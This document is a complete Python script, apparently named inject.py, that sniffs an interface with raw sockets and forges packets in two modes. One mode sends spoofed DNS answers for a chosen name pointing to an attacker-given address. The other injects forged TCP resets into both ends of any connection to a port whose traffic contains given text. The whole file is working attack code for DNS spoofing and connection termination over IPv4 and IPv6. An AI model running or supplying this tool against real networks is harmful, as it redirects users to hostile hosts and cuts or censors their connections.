#!/usr/bin/python3
"""inject.py INTERFACE dns NAME ADDRESS: answers questions for NAME with ADDRESS, faster than whoever was asked.
inject.py INTERFACE reset PORT TEXT: when TEXT is sent to PORT, sends resets to both ends in each other's name.

Beside the path and not in it: it reads along and forges, and never holds anything back. IPv4 and IPv6.
"""
import socket, struct, sys

interface, mode = sys.argv[1:3]
IPV4, IPV6, EVERY = 0x0800, 0x86DD, 0x0003
tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(EVERY))
tap.bind((interface, EVERY))
raw = {
    4: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    16: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
}
TCP, UDP = 6, 17
RST, ACK = 4, 16


def checksum(data):
    total = sum(struct.unpack(">%dH" % ((len(data) + 1) // 2), data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(source, target, protocol, body):
    if len(source) == 4:
        header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0) + source + target
        raw[4].sendto(header + body, (socket.inet_ntoa(target), 0))
    else:
        header = struct.pack(">IHBB", 6 << 28, len(body), protocol, 64) + source + target
        raw[16].sendto(header + body, (socket.inet_ntop(socket.AF_INET6, target), 0))


def reset(source, target, ports, number, acknowledged, flags):
    header = struct.pack(">HHIIBBHHH", *ports, number & 0xFFFFFFFF, acknowledged & 0xFFFFFFFF, 5 << 4, flags, 0, 0, 0)
    pseudo = source + target + struct.pack(">II", len(header), TCP)
    send(source, target, TCP, header[:16] + struct.pack(">H", checksum(pseudo + header)) + header[18:])


def answer(source, target, body):
    """A forged answer to the question in a datagram, if it is one for the name."""
    name, address = sys.argv[3:5]
    wanted = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    from_port, to_port = struct.unpack(">HH", body[:4])
    question = body[8:]
    if to_port != 53 or question[12:12 + len(wanted)].lower() != wanted:
        return
    end = 12 + len(wanted) + 4
    known = question[end - 4:end - 2] == b"\0\1"  # A; in the name of IPv6 there is nothing
    record = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(address)
    head = question[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, int(known), 0, 0)
    reply = head + question[12:end] + (record if known else b"")
    datagram = struct.pack(">HHHH", 53, from_port, 8 + len(reply), 0) + reply
    if len(source) == 4:  # where a checksum of zero is none
        send(target, source, UDP, datagram)


def cut(source, target, body):
    """Resets for the connection of a segment, if it carries the text."""
    port, text = int(sys.argv[3]), sys.argv[4].encode().lower()
    from_port, to_port, number, acknowledged = struct.unpack(">HHII", body[:12])
    if to_port != port or text not in body.lower():
        return
    length = len(body) - (body[12] >> 4) * 4
    reset(target, source, (to_port, from_port), acknowledged, number + length, RST | ACK)
    # Before what was sent and behind it: the server may have it already.
    reset(source, target, (from_port, to_port), number, acknowledged, RST)
    reset(source, target, (from_port, to_port), number + length, acknowledged, RST)


print("ready", flush=True)
while True:
    packet, (_, kind, direction, *_) = tap.recvfrom(65535)
    if direction == socket.PACKET_OUTGOING or kind not in (IPV4, IPV6):
        continue
    if kind == IPV4:
        start, end, protocol = (packet[0] & 15) * 4, struct.unpack(">H", packet[2:4])[0], packet[9]
        source, target = packet[12:16], packet[16:20]
    else:
        start, end, protocol = 40, 40 + struct.unpack(">H", packet[4:6])[0], packet[6]
        source, target = packet[8:24], packet[24:40]
    if mode == "dns" and protocol == UDP:
        answer(source, target, packet[start:end])
    if mode == "reset" and protocol == TCP:
        cut(source, target, packet[start:end])
